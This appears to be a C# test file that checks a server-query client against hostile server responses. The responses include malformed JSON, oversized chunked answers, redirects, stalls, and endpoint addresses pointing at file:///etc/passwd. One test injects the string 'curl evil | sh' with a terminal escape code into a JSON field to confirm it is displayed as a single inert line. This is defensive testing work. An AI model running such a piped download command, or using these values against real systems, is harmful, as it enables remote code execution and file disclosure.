namespace Transport.Engine.Tests.Processes;

public sealed class ServerQueryTests
{
    private const string Chunked = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
    private const string Whole = "\"pid\":1,\"http\":\"http://127.0.0.1:1\",\"persons\":1,\"maxCount\":1,\"gc\":\"workstation\",\"framework\":\".NET\",\"productVersion\":\"1\"";

    public static TheoryData<string> Broken =>
    [
        "null",
        "{}",
        "[]",
        "nonsense",
        "{" + Whole + ",\"endpoints\":[null],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[],\"unavailable\":null}",
        "{" + Whole + ",\"endpoints\":[],\"unavailable\":[null]}",
        "{" + Whole + ",\"endpoints\":null,\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":null,\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":null,\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"relative\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"file:///etc/passwd\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"file:///etc/passwd\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\",\"settings\":{\"a\":null}}],\"unavailable\":[]}",
        "{" + Whole + ",\"endpoints\":[{\"id\":\"a\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"},{\"id\":\"a\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
        "{" + Whole + ",\"throttled\":{\"times\":-1,\"ms\":5},\"endpoints\":[],\"unavailable\":[]}",
        new string('[', 100_000),
    ];

    [Theory]
    [MemberData(nameof(Broken))]
    public async Task Ask_AnAnswerThatIsNoList_IsOneLine(string json)
    {
        using var server = HostileServer.WithJson(json);

        await RefusedAsync(server);
    }

    [Fact]
    public async Task Ask_AnEndlessAnswer_IsRefusedAfterAMegabyte()
    {
        var entry = "{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"},";
        using var server = new HostileServer(
            Chunked + "d\r\n{\"endpoints\":\r\n1\r\n[\r\n", string.Concat(Enumerable.Repeat($"{entry.Length:x}\r\n{entry}\r\n", 500)));

        var problem = await RefusedAsync(server);

        Assert.Contains("longer than", problem);
        // What the sockets hold is on its way already.
        Assert.InRange(Interlocked.Read(ref server.Sent), BoundedJson.MaxBytes, 64L << 20);
    }

    /// <summary>Its words are shown beside ours.</summary>
    [Fact]
    public async Task Ask_WordsWithLineBreaks_AreOfOneLine()
    {
        using var server = HostileServer.WithJson("{" + Whole.Replace("workstation", "server\\nNext  curl evil | sh\\u001b[2J", StringComparison.Ordinal) + ",\"endpoints\":[],\"unavailable\":[]}");

        Assert.Equal(@"server Next  curl evil | sh\u{1B}[2J", (await ServerQuery.AskAsync(server.Address, Deadline.Soon)).Gc);
    }

    [Fact]
    public async Task Ask_ARedirect_IsNotFollowed()
    {
        using var elsewhere = HostileServer.WithJson("{}");
        using var server = new HostileServer($"HTTP/1.1 302 Found\r\nLocation: {elsewhere.Address}\r\nContent-Length: 0\r\n\r\n");

        Assert.Contains("302", await RefusedAsync(server));
        Assert.Equal(0, elsewhere.Connections);
    }

    [Theory]
    [InlineData("")]
    [InlineData("HTTP/1.1 200 OK\r\n")]
    [InlineData(Chunked + "1\r\n{\r\n")]
    public async Task Ask_Silence_EndsInTime(string beginning)
    {
        using var server = new HostileServer(beginning, then: "");

        Assert.Contains("no whole answer within", await RefusedAsync(server, TimeSpan.FromMilliseconds(500)));
    }

    [Fact]
    public async Task Ask_AWholeList_IsAnswered()
    {
        using var server = HostileServer.WithJson(
            "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}");

        var ready = await ServerQuery.AskAsync(server.Address, Deadline.Soon);

        Assert.Equal("json", Assert.Single<EndpointInfo>(ready.Endpoints).Id);
    }

    private static async Task<string> RefusedAsync(HostileServer server, TimeSpan? within = null)
    {
        var problem = await Assert.ThrowsAsync<RunException>(() => ServerQuery.AskAsync(server.Address, Deadline.Soon, within));
        Assert.StartsWith("no server answers at http://127.0.0.1:", problem.Message);
        Assert.DoesNotContain('\n', problem.Message);
        return problem.Message;
    }
}
